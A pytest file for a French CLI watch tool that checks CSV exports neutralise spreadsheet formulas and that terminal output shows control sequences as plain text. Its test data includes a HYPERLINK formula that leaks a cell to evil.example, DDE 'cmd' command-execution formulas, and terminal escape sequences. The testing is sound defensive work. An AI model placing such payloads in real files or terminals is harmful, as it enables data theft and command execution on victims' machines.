"""Hostile text on the way out and hostile spreadsheets on the way in (issue #15, items 4, 5, 6, 7 and 12).

Everything runs through the real `veille` CLI (click's CliRunner) on a real SQLite file; feed titles come from a
real local HTTP server. Expected: CSV cells cannot start a spreadsheet formula unless `--raw` asks for the stored
values; Rich markup and terminal control sequences in titles are shown as plain text, never obeyed; a title with
`[/]` lists fine; a CSV cell over 131,072 characters costs its row only, reported by line; a UTF-16 or UTF-32 file
is told which --encoding to give; an error message stays readable whatever the size of what it quotes.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import re
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from click.testing import CliRunner

from tests.conftest import CORPUS, rss, rss_item, write_config
from watch.cli import main
from watch.output import emit
from watch.untrusted import plain

CONFIG = """\
company: {name: Cyclonova}
database: veille.db
themes:
  - {id: battery-tech, label: Batteries}
sources:
  - {id: salons, name: Salons professionnels, kind: offline, type: field, reliability: B}
"""
# What a terminal would obey: set the window title, clear the screen, reverse the text that follows.
CONTROLS = ("\x1b]0;pwned\x07", "\x1b[2J", "\u202e", "\x9b2J")
HOSTILE_TITLE = "Veloce [link=https://evil.example/]click[/link] \x1b]0;pwned\x07fin \x1b[2Jécran \u202eesrever \x9b2J"


@pytest.fixture
def config(tmp_path) -> Path:
    path = tmp_path / "sources.yaml"
    path.write_text(CONFIG, encoding="utf-8")
    return path


def veille(config: Path, *args: str, env: dict | None = None):
    # A wide terminal, so that a title is never folded across lines of the table.
    return CliRunner().invoke(main, ["--config", str(config), *args],
                              env={"VEILLE_USER": "analyste", "COLUMNS": "250", **(env or {})}, catch_exceptions=False)


def today() -> str:
    return datetime.now(timezone.utc).date().isoformat()


def days_ago(n: int) -> str:
    return (datetime.now(timezone.utc) - timedelta(days=n)).date().isoformat()


def add(config: Path, title: str, text: str = "Une observation du salon.") -> None:
    result = veille(config, "add", "--author", "Claire", "--title", title, "--text", text)
    assert result.exit_code == 0, result.output


# -- item 4: spreadsheet formulas in CSV ---------------------------------------------------------------------

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"cliquer")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def test_csv_export_neutralises_formulas_and_raw_keeps_them(config, tmp_path):
    for formula in FORMULAS:
        add(config, formula, text=formula)
    # Import strips a leading tab: "\t=1+1" would become a live "=1+1" in the text.
    notes = tmp_path / "notes.csv"
    notes.write_text(f'date,source,author,title,text\n{days_ago(1)},salons,Paul,"\t=1+1","\t=2+2"\n', encoding="utf-8")
    assert veille(config, "import", str(notes)).exit_code == 0

    exported = veille(config, "items", "--format", "csv")
    assert exported.exit_code == 0, exported.output
    rows = list(csv.DictReader(io.StringIO(exported.stdout)))
    assert {r["title"] for r in rows} == {"'" + f for f in FORMULAS} | {"'=1+1"}
    assert {r["text"] for r in rows} == {"'" + f for f in FORMULAS} | {"'=2+2"}
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert all(r["id"].isdigit() for r in rows), "numbers stay numbers"

    raw = list(csv.DictReader(io.StringIO(veille(config, "items", "--format", "csv", "--raw").stdout)))
    assert {r["title"] for r in raw} == set(FORMULAS) | {"=1+1"}, "--raw: the stored values, for a program"

    report = veille(config, "import", str(notes), "--format", "csv")
    assert [r["title"] for r in csv.DictReader(io.StringIO(report.stdout))] == ["'=1+1"], "every CSV veille writes"


def test_csv_quotes_text_that_looks_like_a_number_but_not_a_number():
    out = io.StringIO()
    emit([{"delta": -2.5, "count": -3, "label": "-2.5", "formula": "-2+3", "cr": "\r=1+1", "bad": float("-inf")}],
         "csv", out=out)
    [row] = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert row == {"delta": "-2.5", "count": "-3", "label": "'-2.5", "formula": "'-2+3", "cr": "'=1+1",
                   "bad": "'-inf"}


# -- item 5: terminal injection ------------------------------------------------------------------------------


def test_untrusted_text_reaches_the_terminal_as_plain_text(config):
    added = veille(config, "add", "--author", "Claire", "--title", HOSTILE_TITLE, "--text", "Une note.",
                   env={"FORCE_COLOR": "1", "NO_COLOR": None})
    assert added.exit_code == 0, added.output
    table = veille(config, "items", env={"FORCE_COLOR": "1", "NO_COLOR": None})
    assert table.exit_code == 0, table.output
    for shown in (added.stdout, table.stdout):
        assert "\x1b]8;" not in shown, "no terminal hyperlink"
        assert "[link=https://evil.example/]click[/link]" in shown, "the markup is shown as typed"
        for control in CONTROLS:
            assert control not in shown
        assert "fin" in shown and "écran" in shown and "esrever" in shown, "the words around stay"

    exported = veille(config, "items", "--format", "csv").stdout
    assert not any(control in exported for control in CONTROLS) and "\x07" not in exported
    listed = veille(config, "items", "--format", "json").stdout
    assert "\u202e" not in listed and "\x9b" not in listed, "JSON writes them as escapes"
    assert json.loads(listed)[0]["title"] == HOSTILE_TITLE, "and loses nothing"


# -- item 6: `[/]` in a title --------------------------------------------------------------------------------


def test_a_feed_title_with_rich_closing_tags_lists_fine(server, tmp_path):
    server.add("/feed.xml", rss(rss_item(1, "Prix [/] en baisse [/bold] chez [b]Veloce"), rss_item(2, "Normal")))
    config = write_config(tmp_path, [{"id": "f", "url": server.url("/feed.xml")}])
    assert veille(config, "collect", "--no-classify").exit_code == 0
    result = veille(config, "items")
    assert result.exit_code == 0, result.output
    assert "Prix [/] en baisse [/bold] chez [b]Veloce" in result.stdout and "Normal" in result.stdout


# -- item 7: a huge cell costs its row only ------------------------------------------------------------------


@pytest.mark.parametrize("quoted", [False, True], ids=["plain", "quoted-over-lines"])
def test_import_reads_every_row_after_a_cell_over_the_csv_limit(config, tmp_path, quoted):
    huge = "x" * 200_000 if not quoted else '"' + ("ligne\n" * 40_000) + '"'
    lines = ["date,source,author,text",
             f"{days_ago(1)},salons,Paul,Avant la grosse cellule",
             f"{days_ago(1)},salons,Paul,{huge}",
             f"{days_ago(1)},salons,Inès,Après la grosse cellule",
             f"{days_ago(1)},salons,Léa,Et encore une"]
    notes = tmp_path / "notes.csv"
    notes.write_text("\n".join(lines) + "\n", encoding="utf-8")
    limit = csv.field_size_limit()

    result = veille(config, "import", str(notes), "--format", "json")
    assert result.exit_code == 1, result.output
    report = {row["line"]: row for row in json.loads(result.stdout)}
    after = 4 if not quoted else 40_004  # the quoted cell spans 40,001 lines
    assert {line for line, row in report.items() if row["status"] == "new"} == {2, after, after + 1}
    assert report[3]["status"] == "bad" and ("240000" if quoted else "200000") in report[3]["problem"]
    assert len(report[3]["problem"]) < 400
    texts = {i["text"] for i in json.loads(veille(config, "items", "--format", "json").stdout)}
    assert texts == {"Avant la grosse cellule", "Après la grosse cellule", "Et encore une"}
    assert csv.field_size_limit() == limit, "the process-wide limit is given back"

    table = veille(config, "import", str(notes))
    assert "│ 3 " in table.stdout, "the table lists the bad row with its line"


# -- item 12: encodings told by their byte order mark; messages of a readable length -------------------------

NOTES = "date,source,author,text\n{d},salons,Paul,Vu au salon\n{d},salons,André,Café et vélos électriques\n"


@pytest.mark.parametrize("encode, expected", [
    (lambda text: text.encode("utf-16"), "utf-16"),
    (lambda text: codecs.BOM_UTF16_BE + text.encode("utf-16-be"), "utf-16"),
    (lambda text: text.encode("utf-32"), "utf-32"),
    (lambda text: text.encode("utf-16-le"), "utf-16-le"),  # no byte order mark
], ids=["utf-16-le-bom", "utf-16-be-bom", "utf-32", "utf-16-le-no-bom"])
def test_import_names_the_encoding_of_a_utf16_or_utf32_file(config, tmp_path, encode, expected):
    notes = tmp_path / "export.csv"
    notes.write_bytes(encode(NOTES.format(d=days_ago(1))))
    result = veille(config, "import", str(notes))
    assert result.exit_code == 2, result.output
    assert re.search(rf"--encoding {expected}\b(?!-)", result.stderr) and "cp1252" not in result.stderr, result.stderr
    assert "export.csv" in result.stderr
    assert veille(config, "import", str(notes), "--encoding", expected).exit_code == 0
    assert {i["author"] for i in json.loads(veille(config, "items", "--format", "json").stdout)} == {"Paul", "André"}


def test_a_10000_column_header_gets_a_message_of_readable_length(config, tmp_path):
    header = ["date", "source", "author", "text"] + [f"colonne_{n}" for n in range(9_996)]
    notes = tmp_path / "large.csv"
    notes.write_text(",".join(header) + "\n" + ",".join([days_ago(1), "salons", "Paul", "x"] + [""] * 9_996) + "\n",
                     encoding="utf-8")
    result = veille(config, "import", str(notes))
    assert result.exit_code == 2
    assert len(result.stderr) < 1_000, len(result.stderr)
    assert "large.csv:1" in result.stderr and "'colonne_0'" in result.stderr and "et 9991 autre(s)" in result.stderr
    assert "rien n'a été importé" in result.stderr and "date, source, author, text" in result.stderr


def test_a_huge_value_quoted_in_an_error_is_cut(config, tmp_path):
    result = veille(config, "add", "--author", "Claire", "--text", "Note", "--date", "2026-" + "9" * 100_000)
    assert result.exit_code == 2
    assert len(result.stderr) < 2_500 and "caractères coupés" in result.stderr
    assert "écrire 2026-03-12 ou 12/03/2026" in result.stderr, "the hint at the end stays"

    notes = tmp_path / "notes.csv"
    notes.write_text(f"date,source,author,text\n{'1' * 100_000},salons,Paul,Note\n{days_ago(1)},salons,Paul,Bonne\n",
                     encoding="utf-8")
    report = json.loads(veille(config, "import", str(notes), "--format", "json").stdout)
    assert report[0]["status"] == "bad" and len(report[0]["problem"]) < 500 and report[1]["status"] == "new"


# -- real-world feeds (../shared/corpus/feeds, read at test time) --------------------------------------------


@pytest.mark.slow
@pytest.mark.skipif(not CORPUS.is_dir(), reason=f"real-world feed corpus not found at {CORPUS}")
def test_real_world_feed_titles_list_as_table_and_csv(server, tmp_path):
    """Titles of the corpus's real feeds (brackets, entities, odd characters) list without a crash, each title
    readable in the table, and every CSV cell is safe."""
    from tests.test_corpus import serve_feeds

    config = serve_feeds(server, tmp_path)
    assert veille(config, "collect", "--no-classify").exit_code in (0, 1)  # a few corpus files are not feeds
    stored = json.loads(veille(config, "items", "--format", "json").stdout)
    assert len(stored) >= 300

    table = veille(config, "items", "--limit", "100000")
    assert table.exit_code == 0, table.output
    assert "\x1b" not in table.stdout, "NO_COLOR: not one escape sequence"
    shown = " ".join(table.stdout.replace("│", " ").split())
    for item in stored:
        title = " ".join(plain((item["title"] or "")[:90]).split())
        assert all(word in shown for word in title.split()), title
    rows = list(csv.DictReader(io.StringIO(veille(config, "items", "--format", "csv").stdout)))
    assert len(rows) == len(stored)
    for row in rows:
        for column, cell in row.items():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")) and "\x1b" not in cell, (column, cell)
